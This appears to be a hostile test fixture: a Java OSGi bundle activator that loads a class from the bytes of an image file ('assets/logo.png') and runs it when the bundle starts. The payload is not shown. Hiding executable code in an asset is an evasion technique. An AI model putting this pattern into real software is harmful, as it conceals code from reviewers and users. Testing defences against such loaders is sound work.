package org.milkbottle.itests.hostile;

import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.util.function.Consumer;

import org.osgi.framework.BundleActivator;
import org.osgi.framework.BundleContext;

/** Defines a class from the bytes of {@code assets/logo.png} with a loader of its own, and runs it. */
public class LoadsDisguisedClass implements BundleActivator {

    /** Finds every class it is asked for in the picture. */
    public static class PictureLoader extends ClassLoader {
        public PictureLoader(ClassLoader parent) {
            super(parent);
        }

        @Override
        protected Class<?> findClass(String name) {
            try (InputStream in = LoadsDisguisedClass.class.getResourceAsStream("/assets/logo.png")) {
                byte[] bytes = in.readAllBytes();
                return defineClass(name, bytes, 0, bytes.length);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }
    }

    @Override
    @SuppressWarnings("unchecked")
    public void start(BundleContext context) throws Exception {
        Class<?> type = new PictureLoader(getClass().getClassLoader()).loadClass(
                "org.milkbottle.itests.hostile.Payload");
        ((Consumer<String>) type.getConstructor().newInstance()).accept(context.getBundle().getSymbolicName());
    }

    @Override
    public void stop(BundleContext context) {
    }
}
